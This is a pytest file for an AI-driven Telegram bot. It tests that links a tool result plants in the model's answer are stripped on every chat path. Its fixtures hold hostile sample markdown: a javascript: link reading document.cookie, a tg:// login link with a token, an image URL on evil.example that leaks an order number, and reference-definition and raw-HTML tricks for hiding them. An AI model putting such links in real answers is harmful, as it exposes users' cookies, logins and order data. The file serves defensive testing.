"""One output policy for links (issue 61, item 5), through bot.testing: an answer that repeats
a tool result's `tg://` and `javascript:` links and an image whose URL carries an order
number reaches no chat with them, whatever path it takes (a private chat's drafts and text, a
rich message, a group's edits, a guest query, a business chat); its http(s) link stays."""

from __future__ import annotations

import json

import pytest

from bot import App
from bot.testing import BotTester, ScriptedModel
from bot.testing.telegram import BOT_USERNAME, SentCall

pytestmark = [pytest.mark.timeout(60)]

HOSTILE = (
    "Your order ships today. [Verify](tg://login?token=SECRET-TOKEN) your account, "
    "[pay](javascript:alert(document.cookie)) the fee, ask [Olga](tg://user?id=42), "
    "see ![p](https://evil.example/p.png?leak=ORDER-A-1) and the [tracking page]"
    "(https://shop.example/track/A-1)."
)
TABLE = "\n\n| Order | State |\n|---|---|\n| A-1 | shipped |"
REFUSED = ("tg://", "javascript:", "SECRET-TOKEN", "evil.example", "ORDER-A-1", "user?id=42")


def model() -> ScriptedModel:
    scripted = ScriptedModel()
    scripted.when("table").answer(HOSTILE + TABLE)
    scripted.when("order").answer(HOSTILE)
    return scripted


def assert_clean(calls: tuple[SentCall, ...]) -> None:
    """No Bot API call carried a refused link, in its text, entities or rich Markdown."""
    sent = [c for c in calls if c.method not in ("sendChatAction", "getChat")]
    assert sent, "the bot sent nothing"
    for call in sent:
        wire = json.dumps(call.params, ensure_ascii=False, default=str)
        for refused in REFUSED:
            assert refused not in wire, (call.method, refused, wire)
    # The http(s) link is kept, as a link.
    assert any("https://shop.example/track/A-1" in json.dumps(c.params, default=str)
               for c in sent), [c.method for c in sent]


@pytest.mark.slow
async def test_refused_links_and_images_reach_no_chat_on_any_path() -> None:
    async with BotTester(App(env_file=None), model=model()) as tester:
        anna = tester.user("Anna")
        plain = await anna.says("where is my order?")
        assert plain.rich == []
        assert "Verify your account, pay the fee, ask Olga" in plain.text
        assert_clean(plain.calls)

        rich = await anna.says("show my orders as a table")
        assert rich.rich, "a table answer goes as a rich message"
        assert_clean(rich.calls)

        team = tester.group("Team")
        assert_clean((await team.says(anna, f"@{BOT_USERNAME} where is my order?")).calls)
        assert_clean((await team.says(anna, f"@{BOT_USERNAME} orders as a table")).calls)

        guest = await tester.guest(anna, f"@{BOT_USERNAME} where is my order?")
        assert_clean(guest.calls)

        shop = await tester.business(tester.user("Olga"))
        assert_clean((await shop.customer(tester.user("Bob")).says("my order?")).calls)


# Issue 77: CommonMark reference definitions the old quick look missed (in a quote, in a list
# item, with an escaped bracket in the label), an autolink and raw HTML, each in an answer
# that goes as a rich message (Telegram reads its Markdown itself).
HIDDEN = {
    "quote": "> [Verify]: tg://login?token=SECRET-TOKEN\n\nPlease [Verify] your account.",
    "list": "- [pay]: javascript:alert(1)\n\nThen [pay] the fee.",
    "escaped": "[Ol\\]ga]: tg://user?id=42\n\nAsk [Ol\\]ga].",
    "autolink": "Log in at <tg://login?token=SECRET-TOKEN>.",
    "html": 'Log in <a href="tg://login?token=SECRET-TOKEN">here</a>.',
}


def links_of(markdown: str) -> list[str]:
    """Every link and image the project's parser reads in `markdown`, and raw HTML read as
    HTML (another reader may take it for markup)."""
    from markdown_it import MarkdownIt

    from bot.telegram.render.links import markdown_parser

    found = []
    for parser in (markdown_parser(), MarkdownIt("commonmark", {"html": True})):
        for token in parser.parse(markdown):
            if token.type == "html_block":
                found.append(token.content)
            for child in token.children or ():
                if child.type in ("link_open", "image"):
                    found.append(str(child.attrs.get("href") or child.attrs.get("src")))
                elif child.type == "html_inline" and "=" in child.content:
                    found.append(child.content)
    return found


@pytest.mark.parametrize("case", sorted(HIDDEN))
async def test_reference_definitions_and_autolinks_in_a_rich_answer_are_parsed_and_judged(
    case: str,
) -> None:
    scripted = ScriptedModel()
    scripted.when("table").answer(HIDDEN[case] + TABLE)
    async with BotTester(App(env_file=None), model=scripted) as tester:
        reply = await tester.user("Anna").says("show my orders as a table")
    assert reply.rich, "a table answer goes as a rich message"
    for message in reply.rich:
        links = links_of(str(message["markdown"]))
        assert all(link.lower().startswith(("http://", "https://")) for link in links), links
    if case in ("quote", "list", "escaped"):  # a refused definition goes, URL and all
        for call in reply.calls:
            wire = json.dumps(call.params, ensure_ascii=False, default=str)
            assert "tg://" not in wire, (call.method, wire)
            assert "javascript:" not in wire, (call.method, wire)
